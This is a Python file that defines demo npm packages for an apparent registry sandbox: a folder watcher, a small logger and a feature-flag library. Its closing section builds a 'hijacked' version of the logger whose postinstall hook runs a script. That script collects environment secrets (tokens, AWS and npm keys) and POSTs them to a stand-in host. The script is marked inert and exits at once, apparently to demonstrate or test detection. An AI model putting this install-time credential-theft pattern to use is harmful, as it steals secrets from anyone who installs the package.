"""The organisation's other packages: a file watcher, a logger and feature flags."""

from registry_client.sandbox.demo.code import Function, Module, Package

WATCHER = Package(
    name="tidewatch",
    repository="tidewatch",
    description="Watches folders and tells you about changes once they have settled.",
    usage="""
        import { tide } from "tidewatch";

        for await (const changes of tide("src", { settle: 50 })) console.log(changes);
    """,
    keywords=("watch", "fs"),
    modules=(
        Module(
            "tide",
            types="""
                export interface TideOptions { settle: number; ignore: string[]; }
                export type Changes = Map<string, string>;
            """,
            head="""
                import { ignored } from "./ignore.js";
                import { happened, settled } from "./settle.js";
            """,
            functions=(
                Function(
                    "tide",
                    "(folder: string, options: TideOptions): Promise<Changes>",
                    "Waits for changes below a folder and gives them together.",
                    """
                    const { watch } = await import("node:fs/promises");
                    const seen = new Set();
                    for await (const event of watch(folder, { recursive: true })) {
                      happened();
                      seen.add(event.filename);
                      if (await settled(options.settle)) return [...seen];
                    }
                    """,
                    bodies={
                        "4.0.0-next.0": """
                        const { watch } = await import("node:fs/promises");
                        const seen = new Map();
                        for await (const event of watch(folder, { recursive: true })) {
                          if (ignored(event.filename, options.ignore)) continue;
                          happened();
                          seen.set(event.filename, event.eventType);
                          if (await settled(options.settle)) return seen;
                        }
                        """,
                        "4.0.0-next.1": """
                        const { watch } = await import("node:fs/promises");
                        const seen = new Map();
                        const stop = new AbortController();
                        const events = watch(folder, { recursive: true, signal: stop.signal });
                        for await (const event of events) {
                          if (event.filename === null) continue;
                          if (ignored(event.filename, options.ignore)) continue;
                          happened();
                          seen.set(event.filename, event.eventType);
                          if (await settled(options.settle)) {
                            stop.abort();
                            return seen;
                          }
                        }
                        """,
                    },
                ),
            ),
        ),
        Module(
            "settle",
            head="let stamp = 0;",
            functions=(
                Function(
                    "happened",
                    "(): void",
                    "Notes that something happened just now.",
                    "stamp += 1;",
                ),
                Function(
                    "settled",
                    "(milliseconds: number): Promise<boolean>",
                    "Whether nothing happened for this long.",
                    """
                    const before = stamp;
                    await new Promise((resolve) => setTimeout(resolve, milliseconds));
                    return stamp === before;
                    """,
                ),
            ),
        ),
        Module(
            "ignore",
            functions=(
                Function(
                    "ignored",
                    "(path: string, patterns: string[]): boolean",
                    "Whether a path matches one of the patterns; `*` stands for anything.",
                    """
                    return patterns.some((pattern) => {
                      const escaped = pattern.replace(/[.+^${}()|[\\]\\\\]/g, "\\\\$&");
                      return new RegExp(`^${escaped.replaceAll("*", ".*")}$`).test(path);
                    });
                    """,
                ),
            ),
        ),
        Module(
            "polling",
            head='import { happened } from "./settle.js";',
            types="export type Timer = ReturnType<typeof setInterval>;",
            until="4.0.0-next.1",
            functions=(
                Function(
                    "poll",
                    "(path: string, every: number): Timer",
                    "Looks at a file's time again and again, where nothing better works.",
                    """
                    let last = 0;
                    return setInterval(async () => {
                      const { stat } = await import("node:fs/promises");
                      const { mtimeMs } = await stat(path);
                      if (mtimeMs !== last) happened();
                      last = mtimeMs;
                    }, every);
                    """,
                ),
            ),
        ),
    ),
    changes={
        "3.0.0": ("Changes come as an async iterable.",),
        "3.1.0": ("`ignore` takes patterns.",),
        "3.1.1": ("Dots in patterns are literal.",),
        "3.2.0": ("`settle` may be zero.",),
        "4.0.0-next.0": ("Changes say what happened to each file.",),
        "4.0.0-next.1": ("Polling is gone: Node watches recursively everywhere.",),
    },
)

LOGGER = Package(
    name="harbor-log",
    repository="harbor-log",
    description="A small logger: levels, JSON lines, and secrets left out.",
    usage="""
        import { createLog } from "harbor-log";

        const log = createLog({ level: "info" });
        log("info", "listening", { port: 8080 });
    """,
    keywords=("log", "logger", "json"),
    modules=(
        Module(
            "log",
            types="""
                export interface LogOptions { level: string; write: (line: string) => void; }
                export type Log = (level: string, message: string, facts?: object) => void;
            """,
            head="""
                import { line } from "./line.js";
                import { redact } from "./redact.js";

                const levels = ["debug", "info", "warn", "error"];
            """,
            functions=(
                Function(
                    "createLog",
                    "(options: LogOptions): Log",
                    "A function that writes a line for each call of its level or above.",
                    """
                    const least = levels.indexOf(options.level);
                    return (level, message, facts = {}) => {
                      if (levels.indexOf(level) < least) return;
                      options.write(line(level, message, redact(facts)));
                    };
                    """,
                ),
            ),
        ),
        Module(
            "line",
            types="export type Facts = Record<string, unknown>;",
            functions=(
                Function(
                    "line",
                    "(level: string, message: string, facts: Facts): string",
                    "One JSON line, time first.",
                    """
                    const time = new Date().toISOString();
                    return JSON.stringify({ time, level, message, ...facts });
                    """,
                ),
            ),
        ),
        Module(
            "redact",
            types='import type { Facts } from "./line.js";',
            head="const secret = /token|secret|password/i;",
            functions=(
                Function(
                    "redact",
                    "(facts: Facts): Facts",
                    "Leaves out what looks like a secret.",
                    """
                    const shown = (key, value) => (secret.test(key) ? "[redacted]" : value);
                    return Object.fromEntries(
                      Object.entries(facts).map(([key, value]) => [key, shown(key, value)]),
                    );
                    """,
                    bodies={
                        "1.2.0": """
                        const shown = (key, value) => {
                          if (secret.test(key)) return "[redacted]";
                          return value && typeof value === "object" ? redact(value) : value;
                        };
                        return Object.fromEntries(
                          Object.entries(facts).map(([key, value]) => [key, shown(key, value)]),
                        );
                        """
                    },
                ),
            ),
        ),
    ),
    changes={
        "1.0.0": ("First stable release.",),
        "1.1.0": ("Facts may be left out.",),
        "1.2.0": ("Secrets inside objects are left out too.",),
        "1.2.1": ("Types for facts.",),
    },
)

# What a hijacked account would add. The first statement ends the process, and the host name can
# never resolve (RFC 2606): it looks like an attack, and does nothing.
TELEMETRY_SCRIPT = """\
// Inert demonstration data: it ends here, before anything is read or sent.
process.exit(0);

const https = require("https");
const os = require("os");

const wanted = /TOKEN|SECRET|KEY|PASSWORD|AWS_|NPM_/i;
const found = {};
for (const name of Object.keys(process.env)) {
  if (wanted.test(name)) found[name] = process.env[name];
}

const body = Buffer.from(
  JSON.stringify({ host: os.hostname(), user: os.userInfo().username, env: found }),
).toString("base64");

const request = https.request({
  hostname: "telemetry.example.invalid",
  path: "/v1/collect",
  method: "POST",
  headers: { "content-type": "text/plain", "content-length": body.length },
});
request.on("error", () => {});
request.end(body);
"""
HIJACKED_VERSION = "1.2.2"


def hijacked_logger() -> tuple[dict[str, object], dict[str, str]]:
    """The manifest and files of the version that smells of an attack."""
    manifest = LOGGER.manifest(HIJACKED_VERSION)
    manifest["scripts"] = {
        "build": "tsc -b",
        "test": "node --test",
        "postinstall": "node ./scripts/telemetry.js",
    }
    manifest["files"] = ["dist", "src", "scripts"]
    return manifest, {
        **LOGGER.files(HIJACKED_VERSION),
        "scripts/package.json": '{\n  "type": "commonjs"\n}\n',
        "scripts/telemetry.js": TELEMETRY_SCRIPT,
    }


FLAGS = Package(
    name="signal-flags",
    repository="signal-flags",
    description="Feature flags that are decided on the server and explained to people.",
    usage="""
        import { decide } from "signal-flags";

        decide({ flag: "new-search", share: 0.1 }, "reader-42");
    """,
    keywords=("feature-flags",),
    dependencies={"harbor-log": "^1.0.0"},
    modules=(
        Module(
            "decide",
            types="export interface Rule { flag: string; share: number; }",
            head='import { bucket } from "./bucket.js";',
            functions=(
                Function(
                    "decide",
                    "(rule: Rule, reader: string): boolean",
                    "Whether a reader gets the feature: the same answer every time.",
                    "return bucket(`${rule.flag}:${reader}`) < rule.share;",
                ),
                Function(
                    "explain",
                    "(rule: Rule, reader: string): string",
                    "The decision as a sentence.",
                    """
                    const state = decide(rule, reader) ? "on" : "off";
                    const share = `${Math.round(rule.share * 100)} %`;
                    return `${rule.flag} is ${state}: ${share} of readers have it.`;
                    """,
                    since="0.9.0",
                ),
            ),
        ),
        Module(
            "bucket",
            functions=(
                Function(
                    "bucket",
                    "(text: string): number",
                    "A number from 0 to 1 that follows from a text (FNV-1a).",
                    """
                    let hash = 0x811c9dc5;
                    for (const character of text) {
                      hash ^= character.codePointAt(0);
                      hash = Math.imul(hash, 0x01000193);
                    }
                    return (hash >>> 0) / 2 ** 32;
                    """,
                ),
            ),
        ),
    ),
    changes={
        "0.8.0": ("Decisions follow from the reader's name.",),
        "0.9.0": ("`explain`.",),
        "1.0.0": ("First stable release.",),
    },
)
